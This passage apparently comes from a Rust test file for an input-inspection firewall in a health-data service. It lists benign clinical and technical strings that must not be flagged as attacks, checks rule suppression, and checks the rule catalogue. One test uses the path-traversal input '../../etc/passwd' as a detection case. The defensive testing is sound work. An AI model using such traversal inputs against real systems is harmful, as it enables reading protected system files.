        "Opera/9.80 (X11; Linux i686; aa-ET) Presto/2.9.168",
        "ihsanogluerem@bsh.net",
        // Backslashes between letters that no shell reads (`shell_escaped`).
        "C:\\Users\\hanako\\Documents\\血液検査.pdf",
        "line one\\nline two",
        "\\alpha + \\beta = 1",
        "D:\\scans\\cat\\2024",
        // An address in a note, then a list (`rce-260` wants a separator right after it).
        "192.168.1.1 router; reset done",
        "1.2.3.4.5; version",
        "120/80; ls",
        "\\\\ (two backslashes) in a note",
        // A comparison after a prose word, a SMART scope, a GraphQL selection.
        "Somewhat difficult; sleep < 5 hours",
        // Near `same_sides`, `comment_split`, rce-270 and the lone separator: no
        // `or`/`and` before a self-comparison, a comment between spaces, an HTML
        // comment, a prose word after text.
        "x=x",
        "//comment in code",
        "http://loinc.org/rdf#",
        "//cdn.example/app/logo.png",
        "${lower:ABC}",
        "Took 2 tablets; return to clinic in 2 weeks",
        "Cost $10; $in stock",
        "a == b or c == d",
        "order=order and more",
        "for a=b or c=d",
        "a /* aside */ b",
        "src/*.rs and lib/*.rs",
        "<!-- note -->",
        "<!--#1 priority-->",
        "Dx: HTN; ID",
        "\"#1 clinic\"",
        "(&(objectCategory=computer))",
        "C:\\data\\new\\n",
        "\\n is a line break in C",
        "HR; ping > 100 ms",
        "patient/*.read",
        "system/*.rs offline_access",
        "{Patient(id:123){name{given,family},birthDate}}",
        "{ObservationList(code:\"8867-4\"){valueQuantity{value,unit}}}",
        // Near the shapes of rce-235 … rce-240 and the widened command rules: prose
        // puts a space after `;`, mail words in text are not alone on the value's
        // first line, and a variable in text is a price or a template.
        // Health text that libinjection and php-130 read as code: a percentage before a
        // parenthesis, a unit before one.
        "HbA1c 5.6% (normal)",
        "HbA1c 6.2%（基準値内）",
        "ECG normal; echo showed EF 55%",
        "Tests: ECG; echo; cat scan",
        "Dx: HTN; ID consult; sleep study next week",
        "pain 50% (severe), improving",
        "blood glucose 110 mg/dL (fasting)",
        "Data\r\nThe readings of the week",
        "notes:\r\nHELP desk called twice today",
        "\nDATA",
        "list 3 items\r\nTOP 1 2",
        "mail from the clinic: see attached",
        "the patient; who was seen; set of results; top priority",
        "R&D; Q&A; AT&T; B&W",
        "Wow!! 1 tablet!",
        "!important",
        "US$ 5 / day; costs $AUD (approx)",
        "it's the patient's",
        "\"\" empty",
        "set of 3",
        "time to eat",
        "cd-rom",
        "rc car",
        "ex-smoker, quit 2019",
        "bin/ folder is empty",
        "{,}",
        "Process spawned in the lab",
        "~5",
        // Near the shapes of rce-190's new words and rce-230 … rce-234.
        "date - end date",
        "Alias: Taro",
        "mail taro@example.jp; date of birth 1980-01-01",
        "call me () {later}",
        "see note; .5 mg more",
        "(sh) shortness",
        "/* comment */",
        "https://example.org/search?q=a/b",
        "twice/day*",
        "$[0]",
        "$.entry[0].resource",
        "p-001",
        "Patient/p-001",
        "2026-04-10",
        "収縮期血圧 118 mm[Hg]",
        "ＨｂＡ１ｃ 5.6%",
        "O'Brien",
        "Tom & Jerry",
        "https://example.org/fhir/Patient/1",
        "http://loinc.org",
        "1 tablet twice a day; after meals",
        "select a plan",
        "file\n(see the attached report)",
        "blood_pressure (mmHg)",
        "range (0-5)",
        "session_token",
        "mailto:taro@example.jp",
        "https://social.example/@taro",
        "https://example.org/fhir/Patient?email=taro@example.jp",
        "time of day: after breakfast",
        "~5 mg",
        "a ~+ sign",
        "/fhir/Patient/p-1/$everything",
        "costs $5; paid",
        "that's two \"O\"s in goose",
        "'quoted' text",
        "$$ is the shell's pid",
        "range {1,2}",
        "{\"a\": 1}",
        "head and neck examination",
        "more than 2 weeks",
        "nice cat",
        "cd4 count 500; CD in remission",
        "find a doctor near you",
        "time - 10:30",
        "sleep 7 hours",
        "HPLC; fold change 2.3; bridge therapy planned",
        "engine oil changed",
        "data: text/plain notes",
        "urn:oid:1.2.392.100495.20.3.51.1",
        "a/b/c.json",
        "Bearer abc.def.ghi",
        "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
        "{\"resourceType\": \"Observation\"}",
        "118/76 mmHg",
        "10.5/12",
        "LL VIEW",
        "At least 100 beats per minute",
        "Axel Smith",
        "Apt is gated; call when you get here",
        "lymph node; biopsy planned",
        "last dose at 8pm; next at 8am",
        "if the pain persists, call",
        "see the attached file(s)",
        "breath held while (1 min)",
        "get the http/2 client",
        "post office box 12",
        "while(!true);",
        "the console. Log in again",
        "&lt;? should not trigger",
        "backup.sql",
        "cost $AUD (approx)",
        "sodium_add_to_recipe(foo)",
        "He said \"no\". \"Yes\", she said",
        "C:\\Users\\yamada\\u-file.txt",
        "the process went well",
        "blood pressure (left)(sitting)",
        "HbA1c (NGSP) (n=2) 5.6%",
        "Alert (high): confirm with the doctor",
        "the document body was scanned",
        "opened the window. Body temperature 37.2",
        "https://example.org/fhir?_count=10",
        "http://hl7.org/fhir/sid/icd-10",
        "what is the file?",
        "first__name",
        "cost $5 [approx] (est.)",
        "localhost",
        "report.sql is attached",
    ] {
        assert_eq!(hit(raw), None, "{raw}");
    }
}

/// Passing over nests, and ends with its inspection however that ends: a worker thread's
/// next request, on another route, passes over nothing.
#[test]
fn passing_over_nests_and_ends_even_on_a_panic() {
    let lfi = || value(&normalise(b"../../etc/passwd", Plus::Literal)).map(|h| h.rule);
    assert_eq!(lfi(), Some("lfi-100"));
    passing_over(&["lfi-100"], || {
        let inner = passing_over(&["lfi"], lfi);
        assert_eq!(inner, None);
        // The outer one's rule is still passed over, the inner one's no longer.
        assert_ne!(lfi(), Some("lfi-100"));
        assert!(lfi().is_some());
    });
    assert_eq!(lfi(), Some("lfi-100"));
    let panicked = std::panic::catch_unwind(|| passing_over(&["lfi"], || panic!("inspection")));
    assert!(panicked.is_err());
    assert!(!is_passing_over());
    assert_eq!(lfi(), Some("lfi-100"));
}

/// docs/inspect.md's rule catalogue is where an operator looks up the id in an access record
/// or an exclusion: every rule is named in the first cell of a row there (`| \`sqli-100\` |`,
/// `| \`crlf-100\`, \`crlf-110\` |`, or a range `| \`rce-230\` … \`rce-234\` |`), and no id
/// belongs to two rules.
#[test]
fn every_rule_has_a_row_in_the_catalogue_of_docs_inspect() {
    let doc = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/docs/inspect.md"))
        .expect("docs/inspect.md");
    let mut ids = std::collections::BTreeSet::new();
    for id in RULE_IDS.iter() {
        assert!(ids.insert(*id), "rule id {id} is used twice");
    }
    let split = |id: &str| -> Option<(String, u32)> {
        let (class, n) = id.rsplit_once('-')?;
        Some((class.to_owned(), n.parse().ok()?))
    };
    let mut listed = std::collections::BTreeSet::new();
    for line in doc.lines().filter(|l| l.starts_with("| `")) {
        let cell = line[1..].split('|').next().unwrap_or_default();
        let names: Vec<&str> = cell.split('`').skip(1).step_by(2).collect();
        listed.extend(names.iter().map(|n| n.to_string()));
        if let ([first, last], true) = (&names[..], cell.contains('…')) {
            if let (Some((class, lo)), Some((same, hi))) = (split(first), split(last)) {
                if class == same {
                    listed.extend((lo..=hi).map(|n| format!("{class}-{n}")));
                }
            }
        }
    }
    let missing: Vec<&&str> = ids.iter().filter(|id| !listed.contains(**id)).collect();
    assert!(
        missing.is_empty(),
        "docs/inspect.md's catalogue has no row for {missing:?}"
    );
}
